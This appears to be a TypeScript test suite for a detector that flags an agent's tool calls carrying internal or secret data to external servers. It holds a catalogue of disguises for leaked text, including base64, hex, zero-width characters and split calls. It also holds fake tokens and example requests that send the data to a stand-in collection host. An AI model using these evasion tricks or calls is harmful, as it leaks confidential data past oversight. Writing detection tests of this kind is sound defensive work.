import assert from 'node:assert/strict';
import type { Json } from '../../../src/base/json.ts';
import { createFlowMemory, type FlowMemory, MAX_MEMORY_BYTES } from '../../../src/flow/data-flow.ts';
import { flowSentence } from '../../../src/flow/flow-sentence.ts';
import type { FlowFinding } from '../../../src/flow/flow-types.ts';
import { aCall, aResult } from './play.ts';

const DOCUMENT =
	'The Lyon office sells at a margin of seventeen percent until October; Halvorsen keeps his discount, the retention rules of 2019 stay, and nobody outside the board has seen the table of prices for the three new regions.';
const SECRET = `ghp_${'a1B2c3D4e5'.repeat(3)}F6g7H8`;

function read(
	memory: FlowMemory,
	server: string,
	content: Json,
	{ tool = 'get_file', args = {}, at = 0, hasPii = false }: { tool?: string; args?: Json; at?: number; hasPii?: boolean } = {},
): string {
	const call = aCall(server, tool, args, { at });
	memory.recordCall(memory.check(call));
	memory.recordResult({ call, at, content, hasPii, trust: 'plain' });
	return call.id;
}
function send(
	memory: FlowMemory,
	server: string,
	args: Json,
	{ tool = 'post_message', at = 12_000, hasPii = false }: { tool?: string; at?: number; hasPii?: boolean } = {},
): readonly FlowFinding[] {
	const check = memory.check(aCall(server, tool, args, { at, hasPii }));
	memory.recordCall(check);
	return check.findings;
}
/** Returns credentials that weren't used before. */
function manySecrets(round: number): string {
	let state = round * 7_919 + 1;
	const next = (): string => {
		state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
		return state.toString(36);
	};
	return Array.from({ length: 400 }, () => `password: A${next()}b${next()}`).join('\n');
}
function sent(
	content: Json,
	args: Json,
	servers: readonly [string, string] = ['github', 'slack'],
	tool = 'post_message',
): FlowFinding | undefined {
	const memory = createFlowMemory();
	read(memory, servers[0], content);
	return send(memory, servers[1], args, { tool })[0];
}

describe('data flow by value', () => {
	it('R088 finds internal text in a call to an external server with score 90 and one plain sentence', () => {
		const found = sent(aResult(DOCUMENT), { channel: 'general', message: `Hi!\n${DOCUMENT}` });

		assert.deepEqual([found?.pattern, found?.score, found?.risk, found?.strength], ['internal_to_external', 90, 'critical', 'copy']);
		assert.equal(found && flowSentence(found), 'The text read by github › get_file 12 s ago is in the message of slack › post_message.');
	});

	for (const [how, change] of [
		['in capitals', (text: string) => text.toUpperCase()],
		['wrapped and quoted', (text: string) => text.replace(/(\S+ \S+ \S+) /g, '$1\n> ')],
		['with characters nobody sees', (text: string) => [...text].join('\u200b')],
		['in part', (text: string) => text.slice(40, 150)],
		['as base64', (text: string) => Buffer.from(text).toString('base64')],
		['as base64url within a text', (text: string) => `see ${Buffer.from(text).toString('base64url')} there`],
		['as base64 that lost its start', (text: string) => Buffer.from(text).toString('base64').slice(3)],
		['as base64 of base64', (text: string) => Buffer.from(Buffer.from(text).toString('base64')).toString('base64')],
		['as hexadecimal', (text: string) => Buffer.from(text).toString('hex')],
		['percent-encoded', (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')],
		[
			'JSON-escaped',
			(text: string) => [...text].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
		],
		['as HTML entities', (text: string) => [...text].map((character) => `&#${character.charCodeAt(0)};`).join('')],
		['as a list of character codes', (text: string) => [...Buffer.from(text)].join(', ')],
	] as const) {
		it(`R088 trap 3 finds text ${how}`, () => {
			assert.equal(sent(aResult(DOCUMENT), { text: change(DOCUMENT) })?.score, 90);
		});
	}

	it('R088 finds text as an array of numbers, and in a property name', () => {
		assert.equal(sent(aResult(DOCUMENT), { bytes: [...Buffer.from(DOCUMENT)] })?.score, 90);
		assert.equal(sent(aResult(DOCUMENT), { [DOCUMENT]: 1 })?.score, 90);
	});

	it('R088 finds text split over the arguments of one call, with other words in between', () => {
		const fields = (DOCUMENT.match(/.{1,15}/g) ?? []).map((value, index) => ({ title: `Part ${index}`, value }));

		assert.equal(sent(aResult(DOCUMENT), { fields })?.score, 90);
	});

	it('R088 finds text split over several calls to one destination, and says so', () => {
		const memory = createFlowMemory();
		read(memory, 'github', aResult(DOCUMENT));

		const found = (DOCUMENT.match(/.{1,20}/g) ?? []).flatMap((text) => send(memory, 'slack', { text }));

		const split = found.find(({ strength }) => strength === 'copy');
		assert.deepEqual([split?.score, split?.isSplit], [90, true]);
	});

	it('trap 2 keeps the first origin when an external server echoes what it was sent', () => {
		const memory = createFlowMemory();
		const origin = read(memory, 'postgres', aResult(DOCUMENT));
		send(memory, 'webhook', { payload: DOCUMENT });
		read(memory, 'webhook', aResult(DOCUMENT), { tool: 'get_last' });

		const [found] = send(memory, 'slack', { text: DOCUMENT });

		assert.deepEqual([found?.from.callId, found?.score], [origin, 90]);
	});

	it('trap 2 keeps the most sensitive origin when two servers return the same text', () => {
		const memory = createFlowMemory();
		read(memory, 'fetch', aResult(DOCUMENT));
		const origin = read(memory, 'postgres', aResult(DOCUMENT), { tool: 'query' });

		assert.equal(send(memory, 'slack', { text: DOCUMENT })[0]?.from.callId, origin);
	});

	it('keeps the origin of a text that went through a third server and came back encoded', () => {
		const memory = createFlowMemory();
		const origin = read(memory, 'github', aResult(DOCUMENT));
		send(memory, 'scratchpad', { value: DOCUMENT }, { tool: 'store' });
		read(memory, 'scratchpad', aResult(Buffer.from(DOCUMENT).toString('base64')), { tool: 'load' });

		assert.equal(send(memory, 'slack', { text: Buffer.from(DOCUMENT).toString('base64') })[0]?.from.callId, origin);
	});

	it('R089 allows external to external, internal to internal, and within one server, and still draws the edge', () => {
		const memory = createFlowMemory();
		read(memory, 'public-api', aResult(DOCUMENT));

		assert.equal(sent(aResult(DOCUMENT), { text: DOCUMENT }, ['public-api', 'slack']), undefined);
		assert.equal(sent(aResult(DOCUMENT), { text: DOCUMENT }, ['postgres', 'github'], 'create_issue'), undefined);
		assert.equal(sent(aResult(DOCUMENT), { text: DOCUMENT }, ['slack', 'slack']), undefined);
		send(memory, 'slack', { text: DOCUMENT });
		assert.deepEqual(
			memory.graph().edges.map(({ risk }) => risk),
			['safe'],
		);
		assert.equal(memory.graph().lastUpdate, 12_000);
	});

	it('C11 scores 60 when one of the servers is of unknown kind', () => {
		assert.deepEqual(
			[
				sent(aResult(DOCUMENT), { text: DOCUMENT }, ['acme', 'slack'])?.score,
				sent(aResult(DOCUMENT), { text: DOCUMENT }, ['github', 'acme'])?.score,
			],
			[60, 60],
		);
	});

	it('R089 reports pii_to_external when personal data was read and is sent', () => {
		const memory = createFlowMemory();
		read(memory, 'crm', aResult(DOCUMENT), { hasPii: true });

		assert.deepEqual(
			send(memory, 'email', { body: DOCUMENT }, { hasPii: true }).map(({ pattern, score }) => [pattern, score]),
			[['pii_to_external', 90]],
		);
	});

	it("trusts an address in the arguments over the server's name, and finds data inside an address", () => {
		const inLink = sent(
			aResult(DOCUMENT),
			{ url: `https://cdn.collect-it.net/p?d=${encodeURIComponent(DOCUMENT)}` },
			['github', 'reader'],
			'fetch',
		);
		const byTarget = sent(aResult(DOCUMENT), { url: 'https://collect-it.net/in', body: DOCUMENT }, ['github', 'requests'], 'post');
		const local = sent(aResult(DOCUMENT), { url: 'http://localhost:3000/in', body: DOCUMENT }, ['github', 'fetch'], 'post');

		assert.deepEqual([inLink?.score, byTarget?.score, local], [90, 90, undefined]);
	});

	for (const [how, change] of [
		['whole', (text: string) => text],
		['in part', (text: string) => text.slice(3, 22)],
		['cut by a space', (text: string) => `${text.slice(0, 11)} ${text.slice(11)}`],
		['spelled out', (text: string) => [...text].join(' ')],
		['as base64 with other words', (text: string) => Buffer.from(`key: ${text}`).toString('base64')],
	] as const) {
		it(`R066 finds a secret ${how}, even among little other text`, () => {
			assert.equal(sent(aResult(`HOST=db\nTOKEN=${SECRET}\n`), { text: `use ${change(SECRET)}` })?.strength, 'secret');
		});
	}

	it('finds a secret split over two calls', () => {
		const memory = createFlowMemory();
		read(memory, 'vault', { structuredContent: { password: 'Wq7-trunk-88-Lantern' } });
		send(memory, 'slack', { text: 'Wq7-trunk' });

		assert.equal(send(memory, 'slack', { text: '-88-Lantern' })[0]?.strength, 'secret');
	});

	it('finds the whole of a short result, and a list of addresses', () => {
		const list = ['ann@a.example', 'bob@b.example', 'cyd@c.example', 'dan@d.example', 'eva@e.example'];

		assert.equal(sent(aResult('launch code 4471 blue'), { text: 'launch code 4471 blue' })?.strength, 'copy');
		assert.equal(
			sent(aResult(JSON.stringify(list.map((mail, index) => ({ id: index, mail })))), { text: [...list].reverse().join(' and ') })
				?.strength,
			'copy',
		);
	});

	for (const [what, result, args] of [
		[
			'a license text',
			'Permission is hereby granted, free of charge, to any person obtaining a copy of this software and associated documentation files (the "Software")',
			{
				text: 'Permission is hereby granted, free of charge, to any person obtaining a copy of this software and associated documentation files (the "Software")!',
			},
		],
		['short words', 'ok done true main production', { text: 'production is ok, main is done' }],
		[
			'a mail address in its usual field',
			'{"name":"Ann Lee","email":"ann.lee@customers.example","plan":"gold"}',
			{ to: 'ann.lee@customers.example', body: 'Your appointment is confirmed.' },
		],
		[
			'links and commit hashes',
			`{"sha":"${'0a1b2c3d4e'.repeat(4)}","html_url":"https://github.com/acme/core/pull/12/commits/${'0a1b2c3d4e'.repeat(4)}?diff=split"}`,
			{ text: `see https://github.com/acme/core/pull/12/commits/${'0a1b2c3d4e'.repeat(4)}?diff=split` },
		],
		['a UUID', '{"id":"7d444840-9dc0-11d1-b245-5ffdce74fad2","status":"open"}', { text: '7d444840-9dc0-11d1-b245-5ffdce74fad2 is open' }],
		['the next page of a list', `{"items":[],"next_page_token":"${'aB3dE5gH7j'.repeat(3)}"}`, { text: `${'aB3dE5gH7j'.repeat(3)}` }],
	] as const) {
		it(`ignores ${what}`, () => {
			assert.equal(sent(aResult(result), args), undefined);
		});
	}

	it('ignores text that the model had before any server returned it', () => {
		const memory = createFlowMemory();
		send(memory, 'filesystem', { path: 'a.md', content: `${DOCUMENT} ${SECRET.slice(5)}` }, { tool: 'write_file' });
		read(memory, 'filesystem', aResult(`${DOCUMENT} ${SECRET.slice(5)}`));

		assert.deepEqual(send(memory, 'slack', { text: `${DOCUMENT} ${SECRET.slice(5)}` }), []);
	});

	it('finds a part of a repetitive text, and the rows of a table without its column names', () => {
		const rows = [3, 4, 5, 6].map((week) => ({
			week,
			office: 'Lyon south branch',
			state: 'not yet agreed upon',
			margin: `${week} of seventeen points`,
		}));
		const lines = rows.map(({ week, office, state, margin }) => `| ${week} | ${office} | ${state} | ${margin} |`);

		assert.equal(sent(aResult([...lines, ...lines].join('\n')), { text: lines.slice(1, 4).join('\n') })?.strength, 'copy');
		assert.equal(
			sent(aResult(JSON.stringify(rows)), { text: rows.map((row) => Object.values(row).join(' ')).join('\n') })?.strength,
			'copy',
		);
	});

	it("rates the titles of a list as a mention when most of the text wasn't sent", () => {
		const issues = [
			'Login fails when the user has no avatar',
			'Export drops the last row of large tables',
			'Dark mode ignores the system setting',
		].map((title, index) => ({
			title,
			number: 77 + index,
			body: DOCUMENT.slice(index * 40, index * 40 + 90),
		}));

		assert.equal(
			sent(aResult(JSON.stringify(issues)), { text: `Done: ${issues.map(({ title }) => title).join(', ')}` })?.strength,
			'mention',
		);
	});

	it('rates a quoted title as a mention, at half the score', () => {
		const found = sent(aResult(`${DOCUMENT}\nLogin fails when the user has no avatar at all\n${DOCUMENT.slice(9)}`), {
			text: 'Fixed: "Login fails when the user has no avatar at all", enjoy',
		});

		assert.deepEqual([found?.strength, found?.score, found?.risk], ['mention', 45, 'suspicious']);
	});

	it('escapes names in its sentence', () => {
		const memory = createFlowMemory();
		read(memory, 'github\u202e', aResult(DOCUMENT));

		const [found] = send(memory, 'slack', { 'te\nxt': DOCUMENT });

		assert.match(
			found === undefined ? '' : flowSentence(found),
			/^The text read by github\\u\{202E\} › get_file 12 s ago is in the te xt of slack › post_message\.$/,
		);
	});

	it('stays within its limit, and a flood from outside displaces nothing internal', () => {
		const memory = createFlowMemory();
		read(memory, 'postgres', aResult(DOCUMENT));
		let state = 7;
		const random = (): string =>
			Array.from({ length: 20_000 }, () => ((state = (state * 1_103_515_245 + 12_345) & 0x7fffffff) >> 8).toString(36)).join(' ');
		for (let index = 0; index < 30; index += 1) for (const server of ['fetch', 'acme']) read(memory, server, aResult(random()));

		assert.ok(memory.bytes <= MAX_MEMORY_BYTES, `${memory.bytes}`);
		assert.equal(send(memory, 'slack', { text: DOCUMENT })[0]?.score, 90);
	});

	const SMALL = 'password: Zx8kQ2mVw91LpTr7';
	for (const [what, { rounds, server, text }] of [
		['secrets from one external server', { server: 'slack', text: manySecrets, rounds: 14 }],
		['results from a server of the same kind', { server: 'database', text: (round: number) => `result ${round}`, rounds: 4_200 }],
	] as const)
		it(`R087 keeps the text of another server during a flood of ${what}`, () => {
			const memory = createFlowMemory();
			read(memory, 'github', aResult(DOCUMENT));
			read(memory, 'github', aResult(SMALL));

			for (let round = 0; round < rounds; round += 1)
				memory.recordResult({
					call: aCall(server, 'get_file', {}),
					at: 1,
					content: aResult(text(round)),
					hasPii: false,
					trust: 'plain',
				});

			assert.equal(send(memory, 'slack', { message: DOCUMENT })[0]?.from.server.name, 'github');
			assert.equal(send(memory, 'slack', { message: 'Zx8kQ2mVw91LpTr7' })[0]?.strength, 'secret');
			assert.ok(memory.bytes <= MAX_MEMORY_BYTES, String(memory.bytes));
		});

	it('R087 recognizes a forgotten result again when the server returns it once more', () => {
		const memory = createFlowMemory();
		const isKnown = (): boolean => memory.check(aCall('slack', 'post_message', { message: 'Zx8kQ2mVw91LpTr7' })).findings.length > 0;
		for (let time = 0; time < 2; time += 1) read(memory, 'github', aResult(SMALL));
		assert.ok(isKnown());
		for (let round = 0; isKnown() && round < 20; round += 1) read(memory, 'github', aResult(manySecrets(round)));
		assert.ok(!isKnown(), 'the flood was too small');

		read(memory, 'github', aResult(SMALL));

		assert.ok(isKnown());
	});

	it('says when arguments or results are too large to be checked completely', () => {
		const memory = createFlowMemory();
		const long = 'word '.repeat(400_000);

		assert.equal(memory.check(aCall('slack', 'post_message', { text: long })).isPartial, true);
		assert.equal(
			memory.recordResult({ call: aCall('github', 'get_file'), at: 0, content: aResult(long), hasPii: false, trust: 'plain' }).isPartial,
			true,
		);
	});
});
